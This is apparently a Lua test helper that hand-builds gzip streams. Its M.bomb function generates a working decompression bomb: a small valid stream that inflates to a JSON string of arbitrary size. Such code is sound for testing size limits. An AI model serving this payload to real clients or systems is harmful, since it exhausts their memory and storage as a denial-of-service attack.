-- gzip by hand: an answer in stored blocks, and the bomb, a valid stream of a
-- few megabytes that expands to as much as is wanted and is made as it is sent.
local M = {}

local TABLE = {}
for i = 0, 255 do
  local c = i
  for _ = 1, 8 do c = c & 1 == 1 and 0xEDB88320 ~ c >> 1 or c >> 1 end
  TABLE[i] = c
end

local function crc_bytes(crc, text)
  for i = 1, #text do crc = TABLE[(crc ~ text:byte(i)) & 0xFF] ~ crc >> 8 end
  return crc
end

-- One byte's step is affine over GF(2): 32 columns and a constant. Squaring it
-- gives the step of a run of any length without walking the run.
local function apply(columns, v)
  local out = 0
  for i = 0, 31 do
    if v >> i & 1 == 1 then out = out ~ columns[i] end
  end
  return out
end

local function square(map)
  local columns = {}
  for i = 0, 31 do columns[i] = apply(map.columns, map.columns[i]) end
  return {columns = columns, constant = apply(map.columns, map.constant) ~ map.constant}
end

local function crc_run(crc, byte, n)
  local map = {columns = {}, constant = TABLE[byte]}
  for i = 0, 31 do map.columns[i] = TABLE[(1 << i) & 0xFF] ~ (1 << i) >> 8 end
  while n > 0 do
    if n & 1 == 1 then crc = apply(map.columns, crc) ~ map.constant end
    map, n = square(map), n >> 1
  end
  return crc
end

local HEADER = "\x1f\x8b\x08\0\0\0\0\0\0\3"

function M.stored(text)
  local out = {HEADER}
  for from = 1, math.max(#text, 1), 0xFFFF do
    local block = text:sub(from, from + 0xFFFE)
    out[#out + 1] = ("<BI2I2"):pack(from + 0xFFFF > #text and 1 or 0, #block, ~#block & 0xFFFF) .. block
  end
  out[#out + 1] = ("<I4I4"):pack(crc_bytes(0xFFFFFFFF, text) ~ 0xFFFFFFFF, #text & 0xFFFFFFFF)
  return table.concat(out)
end

-- Bits for a deflate stream with the fixed codes.
local Bits = {__index = {}}

function Bits.__index:add(value, n)
  self.acc = self.acc | value << self.n
  self.n = self.n + n
  while self.n >= 8 do
    self.out[#self.out + 1] = string.char(self.acc & 0xFF)
    self.acc, self.n = self.acc >> 8, self.n - 8
  end
end

-- Huffman codes go in with their first bit first.
function Bits.__index:code(code, n)
  for i = n - 1, 0, -1 do self:add(code >> i & 1, 1) end
end

function Bits.__index:literals(text)
  for i = 1, #text do self:code(0x30 + text:byte(i), 8) end
end

-- Eight times "258 bytes from one byte ago": 13 bytes that stand for 2064.
function Bits.__index:matches()
  for _ = 1, 8 do
    self:code(0xC5, 8)
    self:code(0, 5)
  end
end

function Bits.__index:take()
  local text = table.concat(self.out)
  self.out = {}
  return text
end

local UNIT = 8 * 258

-- An iterator over the bytes of a gzip stream of a JSON object with one string
-- of at least `size` bytes.
function M.bomb(size)
  local opening, closing = "{\"bomb\":\"a", "\"}"
  local units = math.max(2, math.ceil(size / UNIT))
  local bits = setmetatable({acc = 0, n = 0, out = {}}, Bits)
  bits:add(1, 1)
  bits:add(1, 2)
  bits:literals(opening)
  bits:matches()
  local first = HEADER .. bits:take()
  bits:matches() -- from here on every unit has the same bytes
  local unit = bits:take()
  bits:literals(closing)
  bits:code(0, 7)
  bits:add(0, 7)
  local crc = crc_bytes(crc_run(crc_bytes(0xFFFFFFFF, opening), 97, units * UNIT), closing) ~ 0xFFFFFFFF
  local length = #opening + units * UNIT + #closing
  local last = bits:take() .. ("<I4I4"):pack(crc, length & 0xFFFFFFFF)
  return coroutine.wrap(function()
    coroutine.yield(first)
    local left, batch = units - 1, 4096
    while left > 0 do
      coroutine.yield(unit:rep(math.min(left, batch)))
      left = left - batch
    end
    coroutine.yield(last)
  end)
end

return M
